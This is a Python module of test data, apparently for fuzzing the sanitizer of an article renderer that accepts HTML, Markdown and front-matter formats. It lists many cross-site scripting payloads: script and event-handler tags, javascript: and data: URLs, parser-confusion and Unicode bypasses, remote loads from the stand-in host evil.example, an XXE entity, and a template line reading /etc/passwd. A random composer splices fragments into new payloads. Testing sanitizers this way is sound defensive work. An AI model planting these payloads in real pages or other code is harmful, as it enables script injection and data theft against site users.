"""Texts that would run a script, ask another server or change a page, where anything took them for more than words.

Each calls `alert` or names `evil.example`, so that a browser shows whether it lives. Written for this project: a way of
smuggling each, and every way in the three formats that articles have.
"""

from __future__ import annotations

import random

__all__ = ["LOADED", "PAYLOADS", "PIECES", "composed"]

_TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0c>alert(1)</script\t\n bar>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    '<script type="application/ld+json">{"url": "javascript:alert(1)"}</script>',
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'",
    "<image src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    '<img srcset="//evil.example/1.png 1x, //evil.example/2.png 2x">',
    '"><svg onload=alert(1)>',
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate xlink:href=#p0 attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href=//evil.example/x.svg#x></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=x autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x.png)'>x</p>",
    "<body onload=alert(1) background=//evil.example/x.png>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video poster=//evil.example/x.png><source onerror=alert(1)></video><audio src=//evil.example/x.mp3 autoplay>",
    "<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>",
    "<a href=# onclick=alert(1) id=main name=body>x</a>",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='vbscript:alert(1)'>x</a><a href='//evil.example/'>y</a><a href='\\\\evil.example'>z</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='https://evil.example/\" onmouseover=\"alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>) [y](&#x6A;avascript:alert(1))",
    "[x]( javascript://example.org/%0aalert(1) \"' onfocus='alert(1)\")",
    "[x][y]\n\n[y]: javascript:alert(1) 'z'",
    "![x](//evil.example/x.png \"' onerror='alert(1)\")",
    '![x](https://evil.example/x.png){onload=alert(1)} [y](/z){: onclick="alert(1)" style="color:red" }',
    "<javascript:alert(1)> <https://evil.example/?<script>alert(1)</script>>",
    "<mailto:a@evil.example\"onclick='alert(1)'>",
)
_BROKEN = (
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "` onfocus=alert(1) autofocus x=`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62; \\u003cimg src=x onerror=alert(1)\\u003e",
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "]]><script>alert(1)</script>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?><!DOCTYPE x [<!ENTITY y SYSTEM '//evil.example/'>]>&y;",
    "</title><script>alert(1)</script>",
    "</style></textarea></noscript></template><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp><plaintext>",
    "<table><td><select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<b <i <script>alert(1)</script>> <<img src=x onerror=alert(1)>",
    "<a<b href='javascript:alert(1)'>x</a\n<img src=x onerror=alert(1)//",
    "`<script>alert(1)</script>` ```\n<img src=x onerror=alert(1)>\n```",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<a href=javascript:alert(1)>x</a>|",
    "\u2028</script><script>alert(1)//\u2029",
    "<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>\u202c\u2066<b>",
    "\u200f<\u200fscript>alert(1)</\u200fscript>\ufeff<img src=x \u200eonerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e\ufe64img src=x onerror=alert(1)\ufe65",
    "<i\u0307mg src=x onerror=alert(1)><\u017fcript>alert(1)</\u017fcript>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{0}{name}%s${alert(1)}<%= alert(1) %>",
)
PAYLOADS = (*_TAGS, *_ADDRESSES, *_BROKEN)
LOADED = _TAGS
"""Those that live in a page by themselves, where nobody escapes them."""
PIECES = (
    *("<", ">", "</", "/>", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?", "<!", "&", ";", "&lt;", "&#60;", "&#x3c;"),
    *(
        "<b>",
        "</b>",
        "<p>",
        "</p>",
        "<i ",
        "<li>",
        "<table>",
        "<td>",
        "<h1>",
        "</h1>",
        "<br>",
        "<font>",
        "<bdi dir=ltr>",
    ),
    *("<script>", "</script>", "<style>", "</style>", "<title>", "</title>", "<svg>", "</svg>", "<math>", "<mtext>"),
    *(
        "<mglyph>",
        "<noscript>",
        "</noscript>",
        "<template>",
        "<textarea>",
        "</textarea>",
        "<xmp>",
        "<select>",
        "<iframe ",
    ),
    *(
        "<img src=x ",
        "<a href=",
        "<a href='",
        "<form>",
        "<object ",
        "<base href=",
        "<meta ",
        "onerror=",
        "onload=",
        "style=",
    ),
    *(
        "javascript:",
        "JAVA\tSCRIPT:",
        "data:text/html,",
        "//evil.example/",
        "https://evil.example/",
        "mailto:x@y.z",
        "alert(1)",
    ),
    *(
        "'",
        '"',
        "`",
        "=",
        "/",
        "\\",
        "\n",
        "\n\n",
        "\t",
        " ",
        "\r\n",
        "\0",
        "\u00a0",
        "\u2028",
        "\u200f",
        "\u202e",
        "\u2066",
    ),
    *(
        "*",
        "**",
        "_",
        "#",
        "# ",
        "> ",
        "- ",
        "1. ",
        "    ",
        "[",
        "](",
        ")",
        "[x]: ",
        "![",
        "{: ",
        "}",
        "|",
        "|-|\n",
        "```\n",
    ),
    *("كلمة", "قال الوفد السوري", "بشار الجعفري", "أستانا 11", "«", "»", "2018", "\u0651", "\u0640", "x", "A", "🕊"),
    *("---\n", "title: ", "date: 2018-11-28\n", "source: ", "url: ", "author: ", "former: [", "lang: ", "encoding: "),
)
"""What payloads are made of."""


def composed(chance: random.Random, most: int = 24) -> str:
    """A payload that nobody wrote: pieces, and now and then a whole one, cut or repeated."""
    pieces = []
    for _ in range(chance.randint(2, most)):
        piece = chance.choice(PIECES)
        if chance.random() < 0.08:
            piece = chance.choice(PAYLOADS)
            piece = piece[: chance.randint(1, len(piece))]
        pieces.append(piece * (chance.randint(2, 5) if chance.random() < 0.05 else 1))
    return "".join(pieces)
